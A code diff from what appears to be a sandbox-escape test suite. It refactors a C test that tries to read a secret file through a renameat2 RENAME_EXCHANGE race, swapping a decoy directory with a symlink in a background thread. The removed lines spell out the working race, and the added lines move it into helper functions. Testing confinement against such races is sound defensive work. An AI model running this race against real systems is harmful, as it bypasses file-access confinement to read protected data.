@@ -9,50 +9,18 @@
  * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
  * components); Watson 2007.
  * Usage: e0202-rename-race SECRET */
-#include <fcntl.h>
-#include <libgen.h>
 #include <limits.h>
-#include <pthread.h>
-#include <stdio.h>
-#include <string.h>
-#include <sys/stat.h>
-#include <sys/syscall.h>
-#include <unistd.h>
 
 #include "escape.h"
-
-static volatile int stop;
-
-static void *swapper(void *arg)
-{
-	(void)arg;
-	while (!stop)
-		syscall(SYS_renameat2, AT_FDCWD, "e0202-d", AT_FDCWD, "e0202-s", RENAME_EXCHANGE);
-	return NULL;
-}
 
 int main(int argc, char **argv)
 {
 	esc_need_args(argc, 2, "e0202-rename-race SECRET");
-	char dir[PATH_MAX], base[PATH_MAX], decoy[PATH_MAX * 2], path[PATH_MAX * 2];
-	snprintf(dir, sizeof dir, "%s", argv[1]);
-	snprintf(base, sizeof base, "%s", argv[1]);
-	snprintf(decoy, sizeof decoy, "e0202-d/%s", basename(base));
-	mkdir("e0202-d", 0755);
-	unlink("e0202-s");
-	if (symlink(dirname(dir), "e0202-s") < 0)
-		esc_die("symlink");
-	FILE *f = fopen(decoy, "w");
-	if (!f)
-		esc_die(decoy);
-	fputs("decoy\n", f);
-	fclose(f);
-	snprintf(path, sizeof path, "%s", decoy);
-	pthread_t t;
-	if (pthread_create(&t, NULL, swapper, NULL) != 0)
-		esc_die("pthread_create");
+	char path[PATH_MAX * 2];
+	struct esc_swap w;
+	esc_swap_make(&w, "e0202", argv[1], "decoy\n", path, sizeof path);
+	esc_swap_start(&w, 1);
 	esc_race_open("open through the swapping directory", path, "decoy\n");
-	stop = 1;
-	pthread_join(t, NULL);
+	esc_swap_stop(&w);
 	return 0;
 }
